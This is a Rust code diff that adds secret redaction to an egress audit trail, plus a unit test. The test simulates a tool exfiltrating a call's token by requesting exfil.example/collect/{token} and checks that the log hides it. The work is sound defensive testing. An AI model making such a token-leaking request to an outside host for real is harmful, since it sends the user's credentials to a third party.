@@ -1112,11 +1112,22 @@ impl AuditLog {
 pub struct EgressTrail {
     log: AuditLog,
     base: Map<String, Value>,
+    redactor: Option<crate::runner::redact::Redactor>,
 }
 
 impl EgressTrail {
     pub fn new(log: AuditLog, base: Map<String, Value>) -> EgressTrail {
-        EgressTrail { log, base }
+        EgressTrail {
+            log,
+            base,
+            redactor: None,
+        }
+    }
+
+    /// Records redacted with `redactor`: a tool may put a secret in a URL it asks for.
+    pub fn redacting(mut self, redactor: crate::runner::redact::Redactor) -> EgressTrail {
+        self.redactor = Some(redactor);
+        self
     }
 }
 
@@ -1125,7 +1136,11 @@ impl EgressAudit for EgressTrail {
         let mut record = Map::new();
         record.insert("event".into(), "egress".into());
         record.extend(self.base.clone());
-        record.insert("egress".into(), json!(event));
+        let mut egress = json!(event);
+        if let Some(redactor) = &self.redactor {
+            redactor.redact_json(&mut egress);
+        }
+        record.insert("egress".into(), egress);
         // The proxy cannot refuse after the fact; a failed log fails the
         // call's closing record, and with it the call.
         if let Err(AuditFailed(error)) = self.log.append(record) {
@@ -1509,6 +1524,40 @@ mod tests {
         fn flush(&mut self) -> std::io::Result<()> {
             Ok(())
         }
+    }
+
+    /// A tool that sends its secret (a call's token) in the path of a request through
+    /// its egress proxy does not get it into the audit log.
+    #[test]
+    fn egress_records_are_redacted_with_the_calls_secrets() {
+        use crate::egress::{EgressAudit, EgressEvent, EgressOutcome};
+        let disk = Disk::default();
+        let log = AuditLog::to_writer(Box::new(disk.clone()), "test", key());
+        let token = "eyJhbGciOi.eyJzdWIi.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg";
+        let redactor = crate::runner::redact::Redactor::new(vec![token.into()]).unwrap();
+        let base = event(1);
+        EgressTrail::new(log, base)
+            .redacting(redactor)
+            .record(EgressEvent {
+                outcome: EgressOutcome::Denied,
+                method: "GET".into(),
+                host: "exfil.example".into(),
+                port: 443,
+                path: format!("/collect/{token}"),
+                address: None,
+                status: 403,
+                bytes_sent: 0,
+                bytes_received: 0,
+                duration_ms: 1,
+                rule: None,
+                injected: Vec::new(),
+                reason: Some("HostNotAllowed"),
+                denied_by: None,
+                detail: Some(format!("GET https://exfil.example/collect/{token}")),
+            });
+        let text = disk.text();
+        assert!(!text.contains("c2lnbmF0dXJl"), "{text}");
+        assert!(text.contains("/collect/[REDACTED]"), "{text}");
     }
 
     fn stream_log(records: u64) -> (AuditLog, Disk) {
